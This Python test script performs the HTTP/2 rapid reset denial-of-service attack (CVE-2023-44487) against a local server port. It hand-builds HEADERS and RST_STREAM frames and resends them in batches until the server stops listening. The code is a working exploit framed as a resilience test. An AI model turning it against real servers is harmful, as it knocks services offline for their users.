#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""For tests: an attack by HTTP/2's rapid resets (CVE-2023-44487), without any token.

usage: rapid_resets.py PORT

Begins and resets streams, as many per connection as the server accepts and at most 10,000, until
nothing listens at the port any more. Prints a line when it begins, and at the end the number of
streams. It runs only on idle cores and needs little time itself, so that the attacked processes are
slowed down only by their own work.
"""

import contextlib
import os
import socket
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
PATH = b"/regatta.Exchange/Stream"
FIELDS = b"\x83\x86\x04" + bytes([len(PATH)]) + PATH + b"\x01\x01a"  # RFC 7541, 6
STREAMS, AT_ONCE = 10_000, 50
IDLE = 19


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame by RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def resets(first: int) -> bytes:
    """The frames that are sent at once, from stream `first` on; clients have the odd numbers."""
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, FIELDS) +
                    frame(RST_STREAM, 0, 2 * number + 1, CANCEL)
                    for number in range(first, first + AT_ONCE))


def attack(port: int, pieces: list[bytes]) -> int:
    begun = 0
    while True:
        with contextlib.suppress(ConnectionResetError, BrokenPipeError), \
                socket.socket() as connection:
            try:
                connection.connect(("127.0.0.1", port))
            except ConnectionRefusedError:
                return begun
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for piece in pieces:
                connection.sendall(piece)
                begun += AT_ONCE


def main() -> None:
    pieces = [resets(first) for first in range(0, STREAMS, AT_ONCE)]
    os.nice(IDLE)
    print("begins", flush=True)
    print(attack(int(sys.argv[1]), pieces))


if __name__ == "__main__":
    main()
